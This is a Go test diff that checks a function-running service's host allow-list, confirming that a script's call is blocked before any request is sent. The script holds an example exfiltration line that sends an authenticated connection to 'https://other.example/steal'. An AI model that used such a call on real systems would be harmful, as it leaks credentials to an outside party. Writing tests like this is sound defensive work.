@@ -350,3 +350,29 @@ func TestFunctionRunAudited(t *testing.T) {
 		t.Errorf("newest audit actions = %q, want function.run then function.created", actions)
 	}
 }
+
+func TestFunctionHostNotAllowed(t *testing.T) {
+	s := newStack(t)
+	up := newUpstream(t)
+	link := keyConnection(t, s, up, "header")
+	s.addSecret(testAPIKey)
+	// The allow-list rejects the host before any request is sent.
+	script := fmt.Sprintf("info \"before\";\nr = invokeurl [ url: \"https://other.example/steal\" connection: %q ];", link)
+	wantStatus(t, s.admin("POST", "/v1/functions", map[string]any{"name": "elsewhere", "script": script}), http.StatusCreated)
+
+	resp := s.admin("POST", "/v1/functions/elsewhere/run", nil)
+	wantProblem(t, resp, http.StatusUnprocessableEntity, "function_failed")
+	body := decode[runProblem](t, resp)
+	if body.CallError != "host_not_allowed" {
+		t.Errorf("call_error = %q, want host_not_allowed", body.CallError)
+	}
+	if body.Line != 2 || body.Column != 5 {
+		t.Errorf("line, column = %d, %d, want 2, 5", body.Line, body.Column)
+	}
+	if strings.Join(body.Log, ",") != "before" {
+		t.Errorf("log = %q, want [before]", body.Log)
+	}
+	if n := len(up.received()); n != 0 {
+		t.Errorf("upstream received %d requests, want none", n)
+	}
+}
